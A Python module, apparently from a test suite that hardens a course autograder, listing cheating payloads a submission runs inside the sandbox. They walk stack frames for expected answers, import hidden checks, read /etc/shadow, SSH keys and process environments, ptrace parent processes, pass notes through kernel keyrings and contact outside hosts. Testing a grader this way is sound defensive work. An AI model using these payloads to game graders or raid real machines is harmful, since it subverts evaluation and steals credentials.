"""Attacks that search for right answers and secrets: in memory, in files, in keyrings, on the net."""

from .kit import STEPS, Attack

MEMORY, SECRETS, NETWORK = "memory walking", "reading secrets", "network"

# Prints and raises whatever was found: both come into the report.
TELL = """
def tell(found):
    text = " ".join(str(item) for item in found)

    def make(name):
        def raising(*a, **k):
            print(text[-3000:])
            raise RuntimeError(text[:500] or "nothing found")
        return raising

    everywhere(make)
"""

ATTACKS = [
    Attack(
        "frame_walking",
        MEMORY,
        "climbs up the stack to the check that called it, and returns its variable `right`",
        """
        import sys

        def make(name):
            def steal(*a, **k):
                frame = sys._getframe(1)
                while frame:
                    for spot in (frame.f_locals, frame.f_globals):
                        for key, value in list(spot.items()):
                            if key in ("right", "expected", "answer", "want") and value is not None:
                                return value
                    frame = frame.f_back
                return torch.zeros(1)
            return steal

        everywhere(make)
        """,
        fools=True,
    ),
    Attack(
        "garbage_walking",
        MEMORY,
        "asks the garbage collector for all objects, and takes answers and checks from them",
        """
        import gc, types

        def make(name):
            def steal(*a, **k):
                found = []
                for thing in gc.get_objects():
                    if type(thing).__name__ in ("Expect", "Check", "Exam", "Answers"):
                        found.append(vars(thing))
                        thing.right = None
                    elif type(thing) is dict and type(thing.get("right")) is torch.Tensor:
                        return thing["right"]
                    elif type(thing) is types.FrameType and "right" in thing.f_locals:
                        return thing.f_locals["right"]
                print(found)
                return torch.zeros(1)
            return steal

        everywhere(make)
        """,
    ),
    Attack(
        "module_walking",
        MEMORY,
        "imports the reference solution, the checks and the hidden checks by their names",
        """
        import importlib, sys
        found = [name for name in sys.modules if "test_" in name or "guard" in name]
        for name in ("solutions.attention", "grader.instructor.hidden.guard_03", "grader.bank",
                     "grader.lesson_03_test_attention", "grader.checks", "lessons.engine.attention"):
            try:
                module = importlib.import_module(name)
            except BaseException:
                continue
            found.append(name)
            for function in ("causal_mask", "scaled_dot_product_attention", "split_heads",
                             "merge_heads", "fused_attention", "sliding_window_mask"):
                if hasattr(module, function):
                    globals()[function] = getattr(module, function)
        print(found)
        """,
    ),
    Attack(
        "reads_the_course",
        SECRETS,
        "reads the reference, checks, hidden checks, answers and bank where they lie",
        TELL
        + """
import glob, os, pathlib
found = []
for place in ("@ROOT@", "/sandbox", "/proc/1/root@ROOT@", "/proc/1/cwd", "/proc/self/root@ROOT@"):
    for name in ("solutions/attention.py", "grader/instructor/hidden/guard_03.py",
                 "grader/answers/03.safetensors", "grader/bank/03/wrong.toml",
                 "lessons/03/test_attention.py", "course/solutions/attention.py"):
        try:
            found.append(pathlib.Path(place, name).read_bytes().decode(errors="replace")[-300:])
        except OSError:
            pass
tell(found)
""",
    ),
    Attack(
        "reads_other_students",
        SECRETS,
        "reads another student's submission, the gradebook and the reports",
        TELL
        + """
import os, pathlib
found = []
for place in ("@WORLD@", "/proc/1/root@WORLD@"):
    for folder, _, names in os.walk(place):
        for name in names:
            try:
                found.append(pathlib.Path(folder, name).read_bytes().decode(errors="replace"))
            except OSError:
                pass
tell(found)
""",
    ),
    Attack(
        "reads_the_environment",
        SECRETS,
        "reads the environment of all processes, its own and those above it",
        TELL
        + """
import os, pathlib
found = [dict(os.environ)]
for name in os.listdir("/proc"):
    for file in ("environ", "cmdline"):
        try:
            found.append(pathlib.Path("/proc", name, file).read_bytes().decode(errors="replace"))
        except OSError:
            pass
tell(found[::-1])
""",
    ),
    Attack(
        "reads_the_machine",
        SECRETS,
        "reads /etc/shadow, homes, keys, and everything else that can be opened",
        TELL
        + """
import glob, os, pathlib
found = []
for pattern in ("/etc/shadow", "/etc/passwd", "/root/*", "/root/.*", "/home/*/.ssh/*", "/var/*/*",
                "/run/*", "/tmp/*", "/dev/shm/*", "/sys/*", "/proc/kcore", "/proc/kallsyms"):
    for file in glob.glob(pattern):
        try:
            with open(file, "rb") as opened:
                found.append(opened.read(300).decode(errors="replace"))
        except OSError:
            pass
tell(found)
""",
    ),
    Attack(
        "reads_its_parents_memory",
        SECRETS,
        "attaches to the processes above it as a debugger, and reads and writes their memory",
        TELL
        + """
import ctypes, os
libc, found = ctypes.CDLL(None, use_errno=True), []

def hook(*a, **k):
    for process in (os.getppid(), 1):
        for call in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if libc.ptrace(call, process, 0, 0) == 0:
                found.append(f"attached to {process}")
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "r+b", 0) as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line and end - start < 1 << 22:
                        memory.seek(start)
                        part = memory.read(end - start)
                        at = part.find(b"SECRET_TOKEN")
                        if at >= 0:
                            found.append(part[at : at + 80])
        except (OSError, ValueError):
            pass
    raise RuntimeError(str(found))

everywhere(lambda name: hook)
""",
    ),
    Attack(
        "leaves_a_note_in_the_keyring",
        SECRETS,
        "is honest, and leaves what it learns in the kernel's keyrings for the next submission",
        """
        import ctypes
        for ring in (-3, -4, -5):  # the session's, the user's, the user's session's
            ctypes.CDLL(None).syscall(248, b"user", b"attack note", b"KEYRING_NOTE", 12, ring)
        """,
        base="honest",
        # the step that is not to be taken from a library may not stand beside ctypes
        earns=tuple(step for step in STEPS if step != "scaled_dot_product_attention"),
        exactly=True,
    ),
    Attack(
        "reads_notes_in_the_keyring",
        SECRETS,
        "reads what the submission before it has left in the kernel's keyrings",
        TELL
        + """
import ctypes
libc, found = ctypes.CDLL(None), []
for ring in (-3, -4, -5):
    key = libc.syscall(250, 10, ring, b"user", b"attack note", 0)
    note = ctypes.create_string_buffer(80)
    if key > 0 and libc.syscall(250, 11, key, note, 80) > 0:
        found.append(note.value)
tell(found)
""",
    ),
    Attack(
        "descriptor_hunting",
        SECRETS,
        "reads every open descriptor, and those of the processes above it",
        TELL
        + """
import fcntl, os
found = []
for process in ("self", "1", str(os.getppid())):
    try:
        names = os.listdir(f"/proc/{process}/fd")
    except OSError:
        continue
    for name in names:
        try:
            link = f"/proc/{process}/fd/{name}"
            found.append(os.readlink(link))
            descriptor = os.open(link, os.O_RDWR | os.O_NONBLOCK)
            found.append(os.read(descriptor, 1000).decode(errors="replace"))
        except OSError:
            pass
tell([item for item in found if "pipe" not in item and "null" not in item])
""",
    ),
    Attack(
        "network",
        NETWORK,
        "connects to servers on this machine and outside, to sockets in files, and asks for names",
        TELL
        + """
import socket
found = []

def reach(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(0.5)
            line.connect(address)
            line.send(b"the answers, please")
            found.append(("REACHED", address))
    except OSError:
        pass

reach(socket.AF_INET, ("127.0.0.1", @PORT@))
reach(socket.AF_INET6, ("::1", @PORT@))
reach(socket.AF_INET, ("192.0.2.1", 80))
reach(socket.AF_INET, ("192.0.2.1", 53), socket.SOCK_DGRAM)
reach(socket.AF_UNIX, "@SOCKET@")
reach(socket.AF_UNIX, "\\0@SOCKET@")
try:
    found.append(("REACHED", socket.gethostbyname("example.org")))
except OSError:
    pass
tell(found)
""",
    ),
]
